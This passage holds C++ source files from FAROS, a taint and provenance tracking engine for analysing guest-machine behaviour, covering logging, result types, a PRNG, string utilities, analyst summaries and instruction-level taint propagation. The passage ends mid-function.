  std::fprintf(stderr, "[%s] %s\n", Log::level_name(lvl), msg.c_str());
}

// Guards g_sink: farm workers log concurrently, and a sink swap must not
// race an in-flight write.
std::mutex& sink_mutex() {
  static std::mutex mu;
  return mu;
}

Log::Sink g_sink = default_sink;

}  // namespace

LogLevel Log::level() { return g_level.load(std::memory_order_relaxed); }

void Log::set_level(LogLevel lvl) {
  g_level.store(lvl, std::memory_order_relaxed);
}

Log::Sink Log::set_sink(Sink sink) {
  std::lock_guard<std::mutex> lock(sink_mutex());
  Sink prev = g_sink;
  g_sink = sink ? std::move(sink) : Sink(default_sink);
  return prev;
}

void Log::write(LogLevel lvl, const std::string& msg) {
  if (lvl < level()) return;
  std::lock_guard<std::mutex> lock(sink_mutex());
  g_sink(lvl, msg);
}

const char* Log::level_name(LogLevel lvl) {
  switch (lvl) {
    case LogLevel::kTrace: return "TRACE";
    case LogLevel::kDebug: return "DEBUG";
    case LogLevel::kInfo: return "INFO";
    case LogLevel::kWarn: return "WARN";
    case LogLevel::kError: return "ERROR";
    case LogLevel::kOff: return "OFF";
  }
  return "?";
}

}  // namespace faros
