// Tiny leveled logger. All FAROS diagnostics funnel through here so tests
// can silence or capture them.
#pragma once

#include <functional>
#include <sstream>
#include <string>

namespace faros {

enum class LogLevel { kTrace = 0, kDebug, kInfo, kWarn, kError, kOff };

/// Global logging configuration. Thread-safe: one guest machine is still
/// driven by a single host thread, but the triage farm runs many machines
/// on parallel workers, all funnelling diagnostics through this one logger
/// (level is an atomic, the sink is mutex-serialised).
class Log {
 public:
  using Sink = std::function<void(LogLevel, const std::string&)>;

  static LogLevel level();
  static void set_level(LogLevel lvl);

  /// Replace the output sink (default writes to stderr). Returns previous.
  static Sink set_sink(Sink sink);

  static void write(LogLevel lvl, const std::string& msg);

  static const char* level_name(LogLevel lvl);
};

namespace detail {
class LogLine {
 public:
  explicit LogLine(LogLevel lvl) : lvl_(lvl) {}
  ~LogLine() { Log::write(lvl_, os_.str()); }
  LogLine(const LogLine&) = delete;
  LogLine& operator=(const LogLine&) = delete;

  template <typename T>
  LogLine& operator<<(const T& v) {
    os_ << v;
    return *this;
  }

 private:
  LogLevel lvl_;
  std::ostringstream os_;
};
}  // namespace detail

#define FAROS_LOG(lvl)                            \
  if (::faros::Log::level() <= (lvl))             \
  ::faros::detail::LogLine(lvl)

#define FAROS_TRACE() FAROS_LOG(::faros::LogLevel::kTrace)
#define FAROS_DEBUG() FAROS_LOG(::faros::LogLevel::kDebug)
#define FAROS_INFO() FAROS_LOG(::faros::LogLevel::kInfo)
#define FAROS_WARN() FAROS_LOG(::faros::LogLevel::kWarn)
#define FAROS_ERROR() FAROS_LOG(::faros::LogLevel::kError)

}  // namespace faros
