// Minimal expected-style result type. The guest kernel and VM report
// recoverable failures (bad addresses, missing files, ...) through Result
// rather than exceptions so that guest misbehaviour can never unwind host
// analysis code.
#pragma once

#include <cassert>
#include <optional>
#include <string>
#include <utility>

namespace faros {

/// Error payload: a stable code plus a human-readable message.
struct Error {
  std::string message;

  static Error make(std::string msg) { return Error{std::move(msg)}; }
};

/// Result<T> holds either a value or an Error.
template <typename T>
class [[nodiscard]] Result {
 public:
  Result(T value) : value_(std::move(value)) {}  // NOLINT: implicit by design
  Result(Error error) : error_(std::move(error)) {}

  bool ok() const { return value_.has_value(); }
  explicit operator bool() const { return ok(); }

  const T& value() const& {
    assert(ok());
    return *value_;
  }
  T& value() & {
    assert(ok());
    return *value_;
  }
  T&& take() && {
    assert(ok());
    return std::move(*value_);
  }

  const Error& error() const {
    assert(!ok());
    return *error_;
  }

  /// Returns the contained value or `fallback` when this is an error.
  T value_or(T fallback) const {
    return ok() ? *value_ : std::move(fallback);
  }

 private:
  std::optional<T> value_;
  std::optional<Error> error_;
};

/// Result<void> specialisation: success carries no payload.
template <>
class [[nodiscard]] Result<void> {
 public:
  Result() = default;
  Result(Error error) : error_(std::move(error)) {}  // NOLINT

  bool ok() const { return !error_.has_value(); }
  explicit operator bool() const { return ok(); }

  const Error& error() const {
    assert(!ok());
    return *error_;
  }

 private:
  std::optional<Error> error_;
};

inline Result<void> Ok() { return Result<void>{}; }

template <typename T>
Result<T> Err(std::string msg) {
  return Result<T>(Error::make(std::move(msg)));
}

}  // namespace faros
