// Deterministic PRNG (splitmix64 seeded xorshift). Workload generators and
// property tests use this instead of std::random_device so every run —
// including record/replay — is reproducible.
#pragma once

#include "common/types.h"

namespace faros {

class Rng {
 public:
  explicit Rng(u64 seed = 0x9e3779b97f4a7c15ull) { reseed(seed); }

  void reseed(u64 seed) {
    // splitmix64 to spread a possibly small seed across the state.
    u64 z = seed + 0x9e3779b97f4a7c15ull;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    state_ = z ^ (z >> 31);
    if (state_ == 0) state_ = 0x2545f4914f6cdd1dull;
  }

  u64 next_u64() {
    u64 x = state_;
    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    state_ = x;
    return x;
  }

  u32 next_u32() { return static_cast<u32>(next_u64() >> 32); }

  /// Uniform value in [0, bound). bound == 0 yields 0.
  u64 below(u64 bound) { return bound ? next_u64() % bound : 0; }

  /// Uniform value in [lo, hi] inclusive.
  u64 range(u64 lo, u64 hi) { return lo + below(hi - lo + 1); }

  bool chance(double p) {
    return static_cast<double>(next_u32()) <
           p * static_cast<double>(0xffffffffu);
  }

  Bytes bytes(size_t n) {
    Bytes out(n);
    for (auto& b : out) b = static_cast<u8>(next_u64());
    return out;
  }

 private:
  u64 state_ = 0;
};

}  // namespace faros
