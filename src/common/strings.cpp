#include "common/strings.h"

#include <cstdarg>
#include <cstdio>

namespace faros {

std::string strf(const char* fmt, ...) {
  va_list args;
  va_start(args, fmt);
  va_list copy;
  va_copy(copy, args);
  int n = std::vsnprintf(nullptr, 0, fmt, copy);
  va_end(copy);
  std::string out;
  if (n > 0) {
    out.resize(static_cast<size_t>(n));
    std::vsnprintf(out.data(), out.size() + 1, fmt, args);
  }
  va_end(args);
  return out;
}

std::string hex32(u32 v) { return strf("0x%08x", v); }

std::string hex64(u64 v) { return strf("0x%llx", static_cast<unsigned long long>(v)); }

std::string ipv4_to_string(u32 ip) {
  return strf("%u.%u.%u.%u", (ip >> 24) & 0xff, (ip >> 16) & 0xff,
              (ip >> 8) & 0xff, ip & 0xff);
}

u32 parse_ipv4(std::string_view s) {
  unsigned a = 0, b = 0, c = 0, d = 0;
  std::string buf(s);
  if (std::sscanf(buf.c_str(), "%u.%u.%u.%u", &a, &b, &c, &d) != 4) return 0;
  if (a > 255 || b > 255 || c > 255 || d > 255) return 0;
  return (a << 24) | (b << 16) | (c << 8) | d;
}

std::vector<std::string> split(std::string_view s, char sep) {
  std::vector<std::string> out;
  size_t start = 0;
  while (start <= s.size()) {
    size_t pos = s.find(sep, start);
    if (pos == std::string_view::npos) {
      out.emplace_back(s.substr(start));
      break;
    }
    out.emplace_back(s.substr(start, pos - start));
    start = pos + 1;
  }
  return out;
}

std::string join(const std::vector<std::string>& parts, std::string_view sep) {
  std::string out;
  for (size_t i = 0; i < parts.size(); ++i) {
    if (i) out += sep;
    out += parts[i];
  }
  return out;
}

bool starts_with(std::string_view s, std::string_view prefix) {
  return s.size() >= prefix.size() && s.substr(0, prefix.size()) == prefix;
}

bool ends_with(std::string_view s, std::string_view suffix) {
  return s.size() >= suffix.size() &&
         s.substr(s.size() - suffix.size()) == suffix;
}

std::string hexdump(ByteSpan data, u64 base_addr) {
  std::string out;
  for (size_t off = 0; off < data.size(); off += 16) {
    out += strf("%08llx  ", static_cast<unsigned long long>(base_addr + off));
    std::string ascii;
    for (size_t i = 0; i < 16; ++i) {
      if (off + i < data.size()) {
        u8 b = data[off + i];
        out += strf("%02x ", b);
        ascii += (b >= 0x20 && b < 0x7f) ? static_cast<char>(b) : '.';
      } else {
        out += "   ";
      }
      if (i == 7) out += ' ';
    }
    out += " |" + ascii + "|\n";
  }
  return out;
}

}  // namespace faros
