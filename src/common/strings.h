// Small string/formatting helpers used by reports and disassembly.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "common/types.h"

namespace faros {

/// printf-style formatting into std::string.
std::string strf(const char* fmt, ...) __attribute__((format(printf, 1, 2)));

/// Hex rendering of a 32-bit value, zero padded ("0x83b07019").
std::string hex32(u32 v);
/// Hex rendering of a 64-bit value with minimal width.
std::string hex64(u64 v);

/// Render an IPv4 address stored in host byte order ("169.254.26.161").
std::string ipv4_to_string(u32 ip);
/// Parse "a.b.c.d" to host-order u32; returns 0 on malformed input.
u32 parse_ipv4(std::string_view s);

std::vector<std::string> split(std::string_view s, char sep);
std::string join(const std::vector<std::string>& parts, std::string_view sep);

bool starts_with(std::string_view s, std::string_view prefix);
bool ends_with(std::string_view s, std::string_view suffix);

/// Hexdump of a byte span (for analyst reports and debugging).
std::string hexdump(ByteSpan data, u64 base_addr = 0);

}  // namespace faros
