// Fundamental integer and byte-buffer aliases shared by every FAROS module.
#pragma once

#include <cstdint>
#include <cstddef>
#include <span>
#include <vector>

namespace faros {

using u8 = std::uint8_t;
using u16 = std::uint16_t;
using u32 = std::uint32_t;
using u64 = std::uint64_t;
using i8 = std::int8_t;
using i16 = std::int16_t;
using i32 = std::int32_t;
using i64 = std::int64_t;

/// Raw byte buffer used for guest memory images, packet payloads and files.
using Bytes = std::vector<u8>;
using ByteSpan = std::span<const u8>;
using MutByteSpan = std::span<u8>;

/// Guest virtual address (32-bit machine).
using VAddr = u32;
/// Guest physical address. Wider than VAddr so shadow structures can also
/// index synthetic address spaces (e.g. file shadows) without collision.
using PAddr = u64;

}  // namespace faros
