#include "core/analyst.h"

#include "common/strings.h"
#include "core/report.h"

namespace faros::core {

std::vector<TaintedRegion> tainted_regions(const FarosEngine& engine,
                                           const vm::AddressSpace& as,
                                           VAddr lo, VAddr hi,
                                           size_t max_regions) {
  std::vector<TaintedRegion> out;
  TaintedRegion current;
  bool open = false;
  auto flush = [&]() {
    if (open && out.size() < max_regions) out.push_back(current);
    open = false;
  };
  for (VAddr va = lo; va < hi; ++va) {
    auto pa = as.translate(va, vm::AccessType::kRead, false);
    ProvListId id = pa ? engine.shadow().get(*pa) : kEmptyProv;
    if (id == kEmptyProv) {
      flush();
      continue;
    }
    if (open && id == current.prov && va == current.start + current.len) {
      ++current.len;
    } else {
      flush();
      current = TaintedRegion{va, 1, id};
      open = true;
    }
    if (out.size() >= max_regions) break;
  }
  flush();
  return out;
}

std::string taint_map(const FarosEngine& engine, os::Kernel& kernel) {
  std::string out;
  u32 region_node = 0;  // graph::build_graph's region walk is identical
  for (const auto& info : kernel.process_list()) {
    const os::Process* p = kernel.find(info.pid);
    if (!p || !p->alive()) continue;
    out += strf("process %u (%s):\n", info.pid, info.name.c_str());
    for (const auto& region : p->regions) {
      auto ranges = tainted_regions(engine, p->as, region.base,
                                    region.base + region.len);
      for (const auto& r : ranges) {
        out += strf("  region:%-4u %s +%-6u [%s]  %s\n", region_node++,
                    hex32(r.start).c_str(), r.len,
                    os::region_kind_name(region.kind),
                    render_chain(engine.store(), engine.maps(), r.prov)
                        .c_str());
      }
    }
  }
  return out;
}

FindingSummary summarize_findings(const std::vector<Finding>& findings) {
  FindingSummary s;
  for (const Finding& f : findings) {
    // The graph's finding node index is the position in the findings
    // vector, so the ref label and the slice query address coincide.
    s.refs.push_back(strf("finding:%u %s in %s", s.total, f.policy.c_str(),
                          f.proc.name.c_str()));
    ++s.total;
    if (f.whitelisted) ++s.whitelisted;
    ++s.by_policy[f.policy];
    ++s.by_process[f.proc.name];
  }
  return s;
}

std::string render_summary(const FindingSummary& s) {
  std::string out;
  out += strf("findings: %u (%u whitelisted)\n", s.total, s.whitelisted);
  for (const auto& [policy, n] : s.by_policy) {
    out += strf("  policy %-36s %u\n", policy.c_str(), n);
  }
  for (const auto& [proc, n] : s.by_process) {
    out += strf("  in process %-30s %u\n", proc.c_str(), n);
  }
  for (const auto& ref : s.refs) {
    out += strf("  %s\n", ref.c_str());
  }
  return out;
}

}  // namespace faros::core
