// Analyst-facing queries over a FarosEngine: tainted-region maps (which
// ranges of which process carry provenance, and what kind), and finding
// summaries. These are the "save the analyst hours of reverse engineering"
// conveniences the paper motivates.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "core/engine.h"

namespace faros::core {

/// A maximal run of consecutive virtual addresses whose bytes share the
/// same provenance list.
struct TaintedRegion {
  VAddr start = 0;
  u32 len = 0;
  ProvListId prov = kEmptyProv;
};

/// Scans [lo, hi) in `as` and coalesces tainted bytes into regions.
/// Unmapped gaps end a region. At most `max_regions` are returned.
std::vector<TaintedRegion> tainted_regions(const FarosEngine& engine,
                                           const vm::AddressSpace& as,
                                           VAddr lo, VAddr hi,
                                           size_t max_regions = 256);

/// Full per-process taint map over every live process' known regions:
/// one line per tainted range, with the rendered provenance chain. Each
/// range is labelled "region:<k>" where k counts ranges in walk order —
/// the same order graph::build_graph materializes region nodes, so the
/// label is that range's node reference in the exported provenance graph
/// (one id namespace across text and graph artifacts).
std::string taint_map(const FarosEngine& engine, os::Kernel& kernel);

struct FindingSummary {
  std::map<std::string, u32> by_policy;
  std::map<std::string, u32> by_process;
  u32 total = 0;
  u32 whitelisted = 0;
  /// One "finding:<i> <policy> in <process>" line per finding, in findings
  /// order — i is the finding's node index in the exported graph, so text
  /// summaries cross-link to `faros_slice backward --from finding:<i>`.
  std::vector<std::string> refs;
};

FindingSummary summarize_findings(const std::vector<Finding>& findings);

std::string render_summary(const FindingSummary& summary);

}  // namespace faros::core
