#include "core/engine.h"

#include "common/strings.h"
#include "vm/isa.h"

namespace faros::core {

using vm::AccessType;
using vm::Opcode;

FarosEngine::FarosEngine(const os::OsiQuery& osi, Options opts)
    : osi_(osi),
      opts_(opts),
      store_(opts.prov_list_cap, opts.prov_store_max_lists) {
  if (opts_.collect_metrics) {
    metrics_ = std::make_unique<obs::MetricSink>();
    shadow_.bind_obs(metrics_.get());
    store_.bind_obs(metrics_.get());
    obs::MetricSink* s = metrics_.get();
    fetch_hit_ = {s, obs::Ctr::kFetchCacheHit};
    fetch_miss_ = {s, obs::Ctr::kFetchCacheMiss};
    tainted_load_ = {s, obs::Ctr::kTaintedLoads};
    tainted_store_ = {s, obs::Ctr::kTaintedStores};
    taint_src_events_ = {s, obs::Ctr::kTaintSrcEvents};
    netflow_src_bytes_ = {s, obs::Ctr::kNetflowSrcBytes};
    file_read_src_bytes_ = {s, obs::Ctr::kFileReadSrcBytes};
    file_write_src_bytes_ = {s, obs::Ctr::kFileWriteSrcBytes};
    image_map_src_bytes_ = {s, obs::Ctr::kImageMapSrcBytes};
    export_tag_bytes_ = {s, obs::Ctr::kExportTagBytes};
    bt_elided_ = {s, obs::Ctr::kBtElidedBlocks};
    bt_guard_fail_ = {s, obs::Ctr::kBtGuardFail};
    bt_hint_ = {s, obs::Ctr::kBtHintBlocks};
    rule_engine_.bind_obs(s);
  }
  // An explicit ruleset replaces the built-ins; otherwise the legacy
  // policy_* toggles select them (the historical default behaviour).
  rule_engine_.set_static_mask(opts_.static_trigger_mask);
  rule_engine_.configure(opts_.rules.empty()
                             ? builtin_rules(opts_.policy_netflow_export,
                                             opts_.policy_cross_process_export,
                                             opts_.policy_tainted_code_write)
                             : opts_.rules);
}

void FarosEngine::add_policy(std::unique_ptr<FlagPolicy> policy) {
  rule_engine_.add_native(std::move(policy));
}

u16 FarosEngine::process_tag_index(PAddr cr3) {
  if (last_ptag_valid_ && last_ptag_cr3_ == cr3) return last_ptag_;
  u16 idx;
  auto it = ptag_cache_.find(cr3);
  if (it != ptag_cache_.end()) {
    idx = it->second;
  } else {
    if (auto info = osi_.process_by_cr3(cr3)) {
      idx = maps_.process.intern(cr3, info->pid, info->name);
    } else {
      idx = maps_.process.intern(cr3, 0, "<unknown>");
    }
    ptag_cache_[cr3] = idx;
  }
  last_ptag_cr3_ = cr3;
  last_ptag_ = idx;
  last_ptag_valid_ = true;
  return idx;
}

ProvListId FarosEngine::with_process(ProvListId id, PAddr cr3,
                                     bool even_if_untainted) {
  if (!opts_.track_process) return id;
  if (id == kEmptyProv && !even_if_untainted) return id;
  return store_.append(id, process_tag(cr3));
}

// ---------------------------------------------------------------------------
// Instruction-level propagation (Table I).

void FarosEngine::on_insn_retired(const vm::InsnEvent& ev,
                                  const vm::AddressSpace& as) {
  // Synchronous mode: resolve the InsnEvent into the same fixed-width
  // record the async producer emits, then run the shared propagation path
  // inline. live_as_ lets the shared path read page flags and capture
  // finding windows directly instead of from pre-resolved record fields.
  vm::DiftEvent d;
  d.instr_index = ev.instr_index;
  d.cr3 = ev.cr3;
  d.pc = ev.pc;
  d.pc_pa = ev.pc_pa;
  d.op = static_cast<u8>(ev.insn.op);
  d.rd = ev.insn.rd;
  d.rs1 = ev.insn.rs1;
  d.rs2 = ev.insn.rs2;
  d.imm = ev.insn.imm;
  if (ev.mem) {
    d.flags |= vm::DiftEvent::kHasMem;
    if (ev.mem->is_write) d.flags |= vm::DiftEvent::kIsWrite;
    d.mem_va = ev.mem->va;
    d.mem_pa = ev.mem->pa;
    d.mem_size = ev.mem->size;
    const u32 off = ev.mem->va & ShadowMemory::kPageMask;
    if (off + ev.mem->size > ShadowMemory::kPageBytes) {
      // The access straddles a page; pre-resolve the second page's base.
      // The access itself already translated every byte, so this cannot
      // fault — but if it somehow did, the propagation loop skips the
      // second-page bytes, exactly as the historical per-byte translate
      // `continue` did.
      auto t = as.translate(ev.mem->va + (ShadowMemory::kPageBytes - off),
                            ev.mem->is_write ? AccessType::kWrite
                                             : AccessType::kRead,
                            false);
      if (t) {
        d.mem_pa2 = *t;
        d.flags |= vm::DiftEvent::kCrossesPage;
      }
    }
  }
  live_as_ = &as;
  propagate(d);
  live_as_ = nullptr;
}

void FarosEngine::propagate(const vm::DiftEvent& d) {
  ++stats_.insns_seen;
  const Opcode op = static_cast<Opcode>(d.op);
  ShadowRegisters& sr = sregs(d.cr3);

  // Instruction fetch is a memory access by this process: append its tag to
  // any tainted instruction bytes, and collect their provenance — the
  // "provenance list associated with this instruction" of Figures 7-10.
  //
  // Two fast paths replace the eight per-byte lookups in the common cases:
  //  * untainted page: one page-summary probe (usually a single cached
  //    compare) — the entire fetch-side cost on clean memory;
  //  * tainted code page (every instruction of a mapped image, under
  //    taint_mapped_images): the fetch result is a pure function of
  //    (pc_pa, cr3, page bytes), so a direct-mapped cache validated by the
  //    page's mutation stamp answers steady-state re-executions in O(1).
  //    The first pass per site runs the loop (performing the one-time
  //    process-tag writebacks) and then caches against the post-writeback
  //    stamp, so a hit implies the loop would have no side effects.
  ProvListId fetch = kEmptyProv;
  if (shadow_.range_tainted(d.pc_pa, vm::kInsnSize)) {
    const bool cacheable =
        (d.pc_pa & ShadowMemory::kPageMask) + vm::kInsnSize <=
        ShadowMemory::kPageBytes;
    FetchCacheEntry& entry =
        fetch_cache_[(d.pc_pa / vm::kInsnSize) & kFetchCacheMask];
    u64 version = cacheable ? shadow_.page_version(d.pc_pa) : 0;
    if (cacheable && entry.pc_pa == d.pc_pa && entry.cr3 == d.cr3 &&
        entry.version == version && version != 0) {
      fetch = entry.result;
      fetch_hit_.inc();
    } else {
      fetch_miss_.inc();
      for (u32 i = 0; i < vm::kInsnSize; ++i) {
        ProvListId id = shadow_.get(d.pc_pa + i);
        if (id != kEmptyProv) {
          ProvListId id2 = with_process(id, d.cr3, false);
          if (id2 != id) shadow_.set(d.pc_pa + i, id2);
          fetch = store_.merge(fetch, id2);
        }
      }
      if (cacheable) {
        entry.pc_pa = d.pc_pa;
        entry.cr3 = d.cr3;
        entry.version = shadow_.page_version(d.pc_pa);  // post-writeback
        entry.result = fetch;
      }
    }
  }
  if (fetch != kEmptyProv) {
    ++stats_.tainted_fetches;
    // Guarded by the empty-list check: the image-tainted regime reaches
    // this every instruction, so an unbound trigger must stay one branch.
    if (rule_engine_.has_rules(Trigger::kTaintedFetch)) {
      RuleInputs in;
      in.fetch = fetch;
      run_trigger(Trigger::kTaintedFetch, d, in);
    }
  }

  auto alu3 = [&]() {
    if ((op == Opcode::kXor || op == Opcode::kSub) && d.rs1 == d.rs2) {
      sr.clear_reg(d.rd);  // zero idiom: delete rule
      return;
    }
    ProvListId u = store_.merge(sr.reg_union(d.rs1, store_),
                                sr.reg_union(d.rs2, store_));
    sr.set_all(d.rd, u);
  };
  auto alu_imm = [&]() {
    sr.set_all(d.rd, sr.reg_union(d.rs1, store_));
  };

  const bool has_mem = (d.flags & vm::DiftEvent::kHasMem) != 0;

  // Physical address of byte `i` of the access, from the pre-resolved
  // page bases: offsets survive translation, so every byte on the first
  // page is mem_pa + i and every byte past the boundary is at the same
  // offset from mem_pa2. Returns false for a second-page byte with no
  // resolved base — the case the historical per-byte translate skipped.
  auto byte_pa = [&](u32 i, PAddr* pa) {
    const u32 off = (d.mem_va & ShadowMemory::kPageMask) + i;
    if (off < ShadowMemory::kPageBytes) {
      *pa = d.mem_pa + i;
      return true;
    }
    if (d.flags & vm::DiftEvent::kCrossesPage) {
      *pa = d.mem_pa2 + (off - ShadowMemory::kPageBytes);
      return true;
    }
    return false;
  };

  // A load/store whose bytes stay inside one page (page offsets survive
  // translation, so checking the first byte's physical offset suffices) and
  // whose page holds no taint can skip the per-byte lookup loop: every
  // shadow read would return empty and every shadow write of an empty id
  // would be a no-op.
  auto same_clean_page = [&](u32 size) {
    return (d.mem_pa & ShadowMemory::kPageMask) + size <=
               ShadowMemory::kPageBytes &&
           !shadow_.page_tainted(d.mem_pa);
  };

  auto handle_load = [&](u8 dst_reg, u8 base_reg) {
    ++stats_.loads;
    if (!has_mem) return;
    const u32 size = d.mem_size;
    ProvListId addr_u = opts_.propagate_address_deps
                            ? sr.reg_union(base_reg, store_)
                            : kEmptyProv;
    if (same_clean_page(size)) {
      // Clean source: dst bytes carry only the (usually empty) address
      // dependency; no target provenance means no policy to evaluate.
      for (u32 i = 0; i < 4; ++i) {
        sr.set(dst_reg, static_cast<u8>(i), i < size ? addr_u : kEmptyProv);
      }
      return;
    }
    ProvListId target_union = kEmptyProv;
    ProvListId byte_ids[4] = {};
    for (u32 i = 0; i < size; ++i) {
      PAddr pa;
      if (!byte_pa(i, &pa)) continue;
      ProvListId id = shadow_.get(pa);
      if (id != kEmptyProv) {
        ProvListId id2 = with_process(id, d.cr3, false);
        if (id2 != id) shadow_.set(pa, id2);
        id = id2;
      }
      target_union = store_.merge(target_union, id);
      byte_ids[i] = store_.merge(id, addr_u);
    }
    for (u32 i = 0; i < 4; ++i) {
      sr.set(dst_reg, static_cast<u8>(i), i < size ? byte_ids[i] : kEmptyProv);
    }
    if (target_union != kEmptyProv) {
      tainted_load_.inc();
      if (store_.contains_type(target_union, TagType::kExportTable)) {
        ++stats_.export_table_reads;
      }
      if (rule_engine_.has_rules(Trigger::kTaintedLoad)) {
        RuleInputs in;
        in.fetch = fetch;
        in.target = target_union;
        if (rule_engine_.needs_value(Trigger::kTaintedLoad)) {
          // What the load moves into rd: the target bytes plus any address
          // dependency. Computed only when a rule will look at it.
          in.value = store_.merge(target_union, addr_u);
        }
        run_trigger(Trigger::kTaintedLoad, d, in);
      }
    }
  };

  auto handle_store = [&](u8 src_reg, u8 base_reg) {
    ++stats_.stores;
    if (!has_mem) return;
    const u32 size = d.mem_size;
    ProvListId addr_u = opts_.propagate_address_deps
                            ? sr.reg_union(base_reg, store_)
                            : kEmptyProv;
    // Clean value into a clean page: nothing to write (an empty id is a
    // no-op), nothing for the staging policy to flag (val would be empty).
    if (addr_u == kEmptyProv && !sr.reg_tainted(src_reg) &&
        same_clean_page(size)) {
      return;
    }
    if (addr_u != kEmptyProv || sr.reg_tainted(src_reg)) {
      tainted_store_.inc();
      // Store-side triggers. tainted-store sees every tainted write;
      // exec-page-write is the staging-time site (the value being written
      // lands in executable memory — the historical tainted-code-write
      // check, now a built-in spec). Inputs are computed lazily: the value
      // merge only when some rule is bound, the page-flag probe and the
      // pre-write target union only when a bound rule will look at them.
      // In sync mode the page flags come from the live address space; the
      // async producer pre-resolved them into the record (for at least
      // every store its conservative filter considered maybe-tainted — a
      // superset of the stores that reach this point).
      const bool store_rules =
          rule_engine_.has_rules(Trigger::kTaintedStore);
      const bool exec_rules =
          rule_engine_.has_rules(Trigger::kExecPageWrite);
      if (store_rules || exec_rules) {
        ProvListId val = store_.merge(sr.reg_union(src_reg, store_), addr_u);
        bool page_exec = false;
        if (exec_rules ||
            rule_engine_.needs_page_flags(Trigger::kTaintedStore)) {
          page_exec =
              live_as_
                  ? (live_as_->page_flags(d.mem_va) & vm::kPteExec) != 0
                  : (d.flags & vm::DiftEvent::kPageExec) != 0;
        }
        if (store_rules) {
          RuleInputs in;
          in.fetch = fetch;
          in.value = val;
          in.page_exec = page_exec;
          for (u32 i = 0; i < size; ++i) {  // pre-write destination union
            PAddr pa;
            if (!byte_pa(i, &pa)) continue;
            in.target = store_.merge(in.target, shadow_.get(pa));
          }
          run_trigger(Trigger::kTaintedStore, d, in);
        }
        if (exec_rules && page_exec) {
          RuleInputs in;
          in.fetch = fetch;
          // Historical reports put the written value in target_prov.
          in.target = val;
          in.value = val;
          in.page_exec = true;
          run_trigger(Trigger::kExecPageWrite, d, in);
        }
      }
    }
    for (u32 i = 0; i < size; ++i) {
      PAddr pa;
      if (!byte_pa(i, &pa)) continue;
      ProvListId id = store_.merge(sr.get(src_reg, static_cast<u8>(i)),
                                   addr_u);
      id = with_process(id, d.cr3, false);
      shadow_.set(pa, id);  // copy rule; empty clears stale taint
    }
  };

  switch (op) {
    case Opcode::kMovi:
    case Opcode::kAddPc:
      sr.clear_reg(d.rd);  // constants carry no provenance (delete rule)
      break;
    case Opcode::kMov:
      for (u8 b = 0; b < 4; ++b) sr.set(d.rd, b, sr.get(d.rs1, b));
      break;

    case Opcode::kAdd:
    case Opcode::kSub:
    case Opcode::kMul:
    case Opcode::kDivu:
    case Opcode::kAnd:
    case Opcode::kOr:
    case Opcode::kXor:
    case Opcode::kShl:
    case Opcode::kShr:
      alu3();
      break;

    case Opcode::kAddi:
    case Opcode::kSubi:
    case Opcode::kMuli:
    case Opcode::kAndi:
    case Opcode::kOri:
    case Opcode::kXori:
    case Opcode::kShli:
    case Opcode::kShri:
      alu_imm();
      break;

    case Opcode::kLd8:
    case Opcode::kLd16:
    case Opcode::kLd32:
      handle_load(d.rd, d.rs1);
      break;
    case Opcode::kPop:
      handle_load(d.rd, vm::SP);
      break;

    case Opcode::kSt8:
    case Opcode::kSt16:
    case Opcode::kSt32:
      handle_store(d.rs2, d.rs1);
      break;
    case Opcode::kPush:
      handle_store(d.rs1, vm::SP);
      break;

    case Opcode::kCall:
    case Opcode::kCallr:
      sr.clear_reg(vm::LR);  // return address is a constant
      break;

    case Opcode::kSyscall:
      // syscall-arg trigger: the ABI passes arguments in r1..r4; a bound
      // rule sees their combined provenance (e.g. tainted bytes handed to
      // the kernel). Unbound (the default), the cost is one branch.
      if (rule_engine_.has_rules(Trigger::kSyscallArg)) {
        ProvListId args = sr.reg_union(vm::R1, store_);
        args = store_.merge(args, sr.reg_union(vm::R2, store_));
        args = store_.merge(args, sr.reg_union(vm::R3, store_));
        args = store_.merge(args, sr.reg_union(vm::R4, store_));
        if (args != kEmptyProv) {
          RuleInputs in;
          in.fetch = fetch;
          in.target = args;
          in.value = args;
          run_trigger(Trigger::kSyscallArg, d, in);
        }
      }
      sr.clear_reg(vm::R0);  // result produced by the (native) kernel
      break;

    // Compares and branches do not move data; control dependencies are
    // deliberately not propagated (Section IV).
    default: break;
  }
}

// Block-elision guard (vm/btcache.h). The interpreter offers a cached,
// fully taint-inert block; approving means skipping the per-instruction
// path above for its `count` instructions. That is sound exactly when every
// per-instruction effect is provably a no-op or precomputable:
//  * register propagation — with a fully clean bank, every inert opcode's
//    register rule degenerates to clears/copies/unions of empty lists
//    (and the bank stays clean, so the guard self-maintains);
//  * fetch provenance — on a clean code page there is none; on a tainted
//    page the per-insn walk is a pure function of (block bytes, cr3, page
//    shadow), so a block-level memo replays its one-time writebacks and
//    yields the tainted-fetch count for exact stats accounting;
//  * triggers — inert opcodes can only fire kTaintedFetch, so elision is
//    declined when tainted fetches exist and such rules are bound.
u32 FarosEngine::block_tainted_fetches(PAddr cr3, PAddr start_pa, u32 count) {
  if (!shadow_.range_tainted(start_pa,
                             static_cast<u64>(count) * vm::kInsnSize)) {
    return 0;
  }
  BlockMemoEntry& e =
      block_memo_[(start_pa / vm::kInsnSize) & kBlockMemoMask];
  const u64 version = shadow_.page_version(start_pa);
  if (!(e.start_pa == start_pa && e.cr3 == cr3 && e.version == version &&
        version != 0 && e.count == count)) {
    // First pass per (block, page state): run exactly the fetch loop the
    // instrumented path runs per instruction — including the one-time
    // process-tag writebacks, which are idempotent — then memoize
    // against the post-writeback stamp.
    u32 tainted = 0;
    for (u32 i = 0; i < count; ++i) {
      const PAddr ipa = start_pa + static_cast<u64>(i) * vm::kInsnSize;
      ProvListId fetch = kEmptyProv;
      for (u32 b = 0; b < vm::kInsnSize; ++b) {
        ProvListId id = shadow_.get(ipa + b);
        if (id != kEmptyProv) {
          ProvListId id2 = with_process(id, cr3, false);
          if (id2 != id) shadow_.set(ipa + b, id2);
          fetch = store_.merge(fetch, id2);
        }
      }
      if (fetch != kEmptyProv) ++tainted;
    }
    e.start_pa = start_pa;
    e.cr3 = cr3;
    e.version = shadow_.page_version(start_pa);
    e.count = count;
    e.tainted_insns = tainted;
  }
  return e.tainted_insns;
}

bool FarosEngine::try_elide_block(PAddr cr3, VAddr pc, PAddr start_pa,
                                  const vm::Instruction* insns, u32 count) {
  (void)pc;
  (void)insns;
  if (!opts_.block_cache) return false;
  if (!sregs(cr3).clean()) {
